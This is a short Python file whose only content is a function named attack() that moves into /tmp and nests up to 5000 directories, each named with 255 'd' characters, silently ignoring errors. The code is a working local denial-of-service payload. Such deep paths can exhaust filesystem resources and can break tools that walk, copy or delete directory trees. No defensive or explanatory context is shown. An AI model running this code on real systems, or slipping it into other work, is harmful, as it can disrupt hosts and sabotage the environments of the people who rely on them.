import os


def attack():
    os.chdir("/tmp")
    try:
        for number in range(5000):
            os.mkdir("d" * 255)
            os.chdir("d" * 255)
    except OSError:
        pass
